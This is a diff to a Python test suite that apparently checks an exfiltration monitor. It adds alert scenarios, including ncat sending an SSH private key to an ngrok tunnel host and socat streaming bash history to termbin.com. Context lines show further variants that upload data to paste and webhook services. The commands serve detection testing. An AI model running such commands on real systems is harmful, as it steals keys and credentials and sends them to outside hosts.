@@ -10,7 +10,7 @@ import re
 import pytest
 
 from harness import Scenario, assert_silent, check_service_saw, execute
-from harness.config import HTTPS_PORT
+from harness.config import HTTPS_PORT, SINK_PORT
 
 from test_scenarios import run_attack, wait_for_evidence
 
@@ -86,6 +86,16 @@ ATTACK_VARIANTS = [
         "% len(d) + d)\n"
         "s.recv(100)'",
         technique="T1567.003", domain="dpaste.com", uploads=True),
+    # Raw streams to names only a private /etc/hosts maps: no SNI, no Host, no DNS query; the
+    # monitor names them from the process's own hosts file and command line.
+    Scenario(
+        "ncat-key-to-tunnel-named-by-hosts-file", "alert",
+        f'ncat --send-only abc.ngrok-free.app {SINK_PORT} < $HOME/.ssh/id_ed25519',
+        technique="T1567", hosts=("abc.ngrok-free.app",)),
+    Scenario(
+        "socat-history-to-paste-named-by-hosts-file", "alert",
+        f'socat -u FILE:$HOME/.bash_history TCP:termbin.com:{SINK_PORT}',
+        technique="T1567.003", hosts=("termbin.com",)),
     Scenario(
         "shadow-with-bearer-header-webhook", "alert",
         f'curl -sk {RESOLVE.format("m.pipedream.net")} -H "Authorization: Bearer {BEARER}" '
